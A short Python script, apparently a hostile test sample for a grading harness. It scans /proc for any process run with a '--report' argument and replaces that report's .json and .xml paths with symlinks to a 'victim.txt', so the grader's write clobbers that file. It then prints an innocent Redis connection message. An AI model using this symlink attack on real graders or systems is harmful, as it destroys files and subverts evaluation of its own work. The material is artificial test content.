"""A port that plants a symlink where its grader will write its report (the path it reads
in the grader's command line, from the grader's working directory), pointing at a file
beside it that the report would then overwrite."""

import os

import redis

planted = []
for entry in os.listdir("/proc"):
    try:
        words = open(f"/proc/{entry}/cmdline", "rb").read().decode(errors="replace").split("\0")
        cwd = os.readlink(f"/proc/{entry}/cwd")
    except OSError:
        continue
    if "--report" in words:
        report = os.path.join(cwd, words[words.index("--report") + 1])
        for ending in (".json", ".xml"):
            try:
                if os.path.lexists(report + ending):
                    os.unlink(report + ending)
                os.symlink(os.path.join(os.path.dirname(report), "victim.txt"), report + ending)
                planted.append(report + ending)
            except OSError:
                pass

client = redis.Redis.from_url(os.environ.get("REDIS_URL", "redis://localhost:6379"))
client.ping()
print("Redis client connected to the server")
for path in planted:
    print(f"planted: {path}")
